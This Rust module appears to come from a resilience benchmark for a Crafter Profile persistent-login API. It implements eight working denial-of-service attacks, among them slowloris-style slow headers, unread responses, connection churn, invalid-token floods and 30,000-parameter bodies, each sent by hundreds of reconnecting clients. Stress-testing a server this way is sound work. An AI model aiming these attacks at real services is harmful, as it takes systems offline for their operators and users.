//! An attack, inside a process of its own: many clients that cost the server what they can, and come back whenever it
//! closes their connection.

use std::env;
use std::io;
use std::net::SocketAddr;
use std::process::{Command, Stdio};
use std::rc::Rc;
use std::time::Duration;

use rustix::process::Signal;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};
use tokio::runtime::Builder;
use tokio::sync::Semaphore;
use tokio::task::LocalSet;
use tokio::time::{sleep, timeout};

use crate::dataset::{Random, Uuid};
use crate::exchange::{http_body, refresh_with_token};
use crate::process::Process;

pub const SUBCOMMAND: &str = "attack";

/// As many as the server has places by default.
const CROWD: usize = 512;
/// As many as can be busy at once without waiting for each other's processor time for long.
const BUSY: usize = 64;
/// How often a client that sends slowly sends a byte, and one that pings a request.
const DRIBBLE_INTERVAL: Duration = Duration::from_millis(500);
const PING_INTERVAL: Duration = Duration::from_millis(100);
const RETRY_PAUSE: Duration = Duration::from_millis(5);
/// How long the clients have until the attack counts as begun, whether all of them are connected or not.
const BEGIN_TIMEOUT: Duration = Duration::from_secs(2);
/// So small that the rest of an answer stays in the server.
const RECEIVE_BUFFER_BYTES: u32 = 4 * 1024;
/// Just below the largest body that is accepted by default.
const COSTLY_BODY_BYTES: usize = 60_000;
const ANSWER_BYTES_MAX: usize = 64 * 1024;

const PATH: &str = "/crafter-profile/api/1/authentication/persistent_login";

#[derive(Clone, Copy, PartialEq, Eq)]
pub enum Attack {
    /// Clients that connect and send nothing.
    Idle,
    /// Clients that send a request's head slowly.
    HalfOpen,
    /// Clients that ask for a long list and do not read it.
    UnreadLists,
    /// Clients that send requests as long as the server reads them, and read no answer.
    UnreadAnswers,
    /// Clients that are never idle for long.
    Pinging,
    /// Clients that connect, send a part of a request and leave.
    Churning,
    /// Requests with access tokens that do not exist.
    WrongTokens,
    /// Requests with as many parameters as a body has room for.
    CostlyParameters,
}

/// What an attack needs to know of the server.
pub struct Target {
    pub address: SocketAddr,
    pub access_token: String,
    /// A profile with many logins.
    pub profile_id: String,
}

impl Attack {
    pub const ALL: [Self; 8] = [
        Self::Idle,
        Self::HalfOpen,
        Self::UnreadLists,
        Self::UnreadAnswers,
        Self::Pinging,
        Self::Churning,
        Self::WrongTokens,
        Self::CostlyParameters,
    ];

    /// The row of the table.
    pub fn name(self) -> String {
        let clients = self.clients();
        let what = match self {
            Self::Idle => "clients that send nothing",
            Self::HalfOpen => "clients that send half a request, slowly",
            Self::UnreadLists => "clients that read no long list",
            Self::UnreadAnswers => "clients that read no answers",
            Self::Pinging => "clients that ping ten times a second",
            Self::Churning => "clients that come and go",
            Self::WrongTokens => "clients with wrong access tokens",
            Self::CostlyParameters => "clients with 30,000 parameters",
        };
        format!("{clients} {what}")
    }

    /// Starts it against `target`, and returns once its clients are connected or have tried to. It ends when it is
    /// dropped.
    pub fn spawn(self, target: &Target) -> Process {
        let number = Self::ALL.iter().position(|&other| other == self);
        let number = number.expect("all of them are in the list").to_string();
        let executable = env::current_exe().expect("an executable knows its own path");
        let mut command = Command::new(executable);
        command
            .args([SUBCOMMAND, &number, &target.address.to_string()])
            .args([&target.access_token, &target.profile_id])
            .stdout(Stdio::piped());
        let mut process = Process::spawn(&mut command, Signal::KILL).expect("the attack starts");
        process.first_line().expect("the attack begins");
        process
    }

    const fn clients(self) -> usize {
        match self {
            Self::Idle
            | Self::HalfOpen
            | Self::UnreadLists
            | Self::UnreadAnswers
            | Self::Pinging
            | Self::Churning => CROWD,
            Self::WrongTokens | Self::CostlyParameters => BUSY,
        }
    }
}

/// The attack's process: attacks until it is killed.
pub fn main(args: &[String]) {
    let [number, address, access_token, profile_id] = args else {
        panic!("an attack takes 4 arguments, not {}", args.len());
    };
    let number: usize = number.parse().expect("the first argument is a number");
    let attack = Attack::ALL[number];
    let target = Target {
        address: address.parse().expect("the second argument is an address"),
        access_token: access_token.clone(),
        profile_id: profile_id.clone(),
    };
    let runtime = Builder::new_current_thread()
        .enable_all()
        .build()
        .expect("a runtime of one thread can be built");
    runtime.block_on(LocalSet::new().run_until(run(attack, target)));
}

async fn run(attack: Attack, target: Target) {
    let target = Rc::new(target);
    let connected = Rc::new(Semaphore::new(0));
    for number in 0..attack.clients() {
        let (target, connected) = (Rc::clone(&target), Rc::clone(&connected));
        tokio::task::spawn_local(async move {
            let mut random = Random::new(number as u64, 0);
            let mut stream = connect(target.address).await;
            connected.add_permits(1);
            loop {
                // An error is a connection that the server has closed.
                if let Ok(stream) = &mut stream {
                    let _ = attack_once(attack, stream, &target, &mut random).await;
                } else {
                    sleep(RETRY_PAUSE).await;
                }
                stream = connect(target.address).await;
            }
        });
    }
    let all = u32::try_from(attack.clients()).expect("a small number");
    // At some servers not all of them find a place.
    let _ = timeout(BEGIN_TIMEOUT, connected.acquire_many(all)).await;
    println!("attacking");
    std::future::pending().await
}

async fn connect(address: SocketAddr) -> io::Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    socket.set_recv_buffer_size(RECEIVE_BUFFER_BYTES)?;
    // A connection that is reset leaves no port behind, of which there are not enough for an attack.
    socket.set_zero_linger()?;
    let stream = socket.connect(address).await?;
    stream.set_nodelay(true)?;
    Ok(stream)
}

/// One connection, until it is closed.
async fn attack_once(
    attack: Attack,
    stream: &mut TcpStream,
    target: &Target,
    random: &mut Random,
) -> io::Result<()> {
    match attack {
        Attack::Idle => stream.read_u8().await.map(drop),
        Attack::HalfOpen => {
            stream.write_all(half_a_head().as_bytes()).await?;
            dribble(stream).await
        }
        Attack::UnreadLists => {
            stream.write_all(list_request(target).as_bytes()).await?;
            dribble(stream).await
        }
        Attack::UnreadAnswers => {
            let request = get("/health/live");
            let requests = request.repeat(100);
            loop {
                stream.write_all(requests.as_bytes()).await?;
            }
        }
        Attack::Pinging => loop {
            exchange(stream, get("/health/live").as_bytes()).await?;
            sleep(PING_INTERVAL).await;
        },
        Attack::Churning => stream.write_all(half_a_head().as_bytes()).await,
        Attack::WrongTokens => loop {
            let (wrong, id) = (random.uuid(), random.uuid());
            exchange(stream, &refresh_with_token(&wrong, &id, &id)).await?;
        },
        Attack::CostlyParameters => {
            let body = format!(
                "{}accessTokenId={}",
                "b&".repeat(COSTLY_BODY_BYTES / 2),
                target.access_token
            );
            let request = form_request("create", &body);
            loop {
                exchange(stream, request.as_bytes()).await?;
            }
        }
    }
}

/// Sends a byte now and then, until the server has closed the connection.
async fn dribble(stream: &mut TcpStream) -> io::Result<()> {
    loop {
        sleep(DRIBBLE_INTERVAL).await;
        stream.write_all(b"x").await?;
    }
}

/// Sends `request` and reads the whole answer, whatever it is.
async fn exchange(stream: &mut TcpStream, request: &[u8]) -> io::Result<()> {
    stream.write_all(request).await?;
    let mut answer = Vec::new();
    while http_body(&answer).is_none() {
        if answer.len() > ANSWER_BYTES_MAX || stream.read_buf(&mut answer).await? == 0 {
            return Err(io::ErrorKind::UnexpectedEof.into());
        }
    }
    Ok(())
}

fn half_a_head() -> String {
    format!("POST {PATH}/create HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: ")
}

fn list_request(target: &Target) -> String {
    let Target {
        access_token,
        profile_id,
        ..
    } = target;
    get(&format!(
        "{PATH}/by_profile?accessTokenId={access_token}&profileId={profile_id}&count=1000"
    ))
}

fn get(target: &str) -> String {
    format!("GET {target} HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")
}

/// A POST of this form to an endpoint of logins.
pub fn form_request(endpoint: &str, body: &str) -> String {
    format!(
        "POST {PATH}/{endpoint} HTTP/1.1\r\nHost: 127.0.0.1\r\n\
         Content-Type: application/x-www-form-urlencoded\r\nContent-Length: {}\r\n\r\n{body}",
        body.len()
    )
}

/// A look-up of one login.
pub fn get_request(access_token: &Uuid, id: &Uuid) -> String {
    let (access_token, id) = (access_token.as_str(), id.as_str());
    get(&format!("{PATH}/{id}?accessTokenId={access_token}"))
}
